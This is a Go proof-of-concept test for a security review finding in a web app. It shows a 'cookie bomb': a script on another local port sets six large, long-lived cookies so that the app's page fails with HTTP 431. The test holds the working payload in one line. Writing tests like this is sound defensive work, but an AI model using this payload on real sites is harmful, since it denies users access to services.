package webapp_test

import (
	"net/http"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/securejingle/securejingle/internal/browsertest"
	"github.com/securejingle/securejingle/internal/webapp"
)

// TestPoCCookieBomb (review rvweb3, low): a page on another 127.0.0.1
// port sets a few large cookies for the host (cookies are not isolated by
// port); every later request of the browser to the app carries them and
// exceeds the server's MaxHeaderBytes (16 KiB): 431 for the page itself,
// until the user clears the host's cookies.
func TestPoCCookieBomb(t *testing.T) {
	b := browsertest.Start(t, nil)
	srv, err := webapp.New(webapp.Config{Listen: "127.0.0.1:0", API: http.NotFoundHandler()})
	if err != nil {
		t.Fatal(err)
	}
	go srv.Serve()
	t.Cleanup(func() { srv.Close() })
	evil := browsertest.Serve(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		w.Write([]byte(`<!doctype html><script>for (let i = 0; i < 6; i++) document.cookie = "b" + i + "=" + "x".repeat(4000) + "; path=/; max-age=31536000";</script>`))
	}))
	tab := b.NewTab()
	browsertest.Open(t, tab, evil+"/")
	tab2 := b.NewTab()
	// Go answers 431 with no body; Chromium reports the load as failed.
	if err := chromedp.Do(tab2, chromedp.Navigate(srv.Origin()+"/")); err != nil {
		t.Logf("VULNERABLE: the app's page no longer loads: %v", err)
		return
	}
	t.Fatal("the page still loads")
}
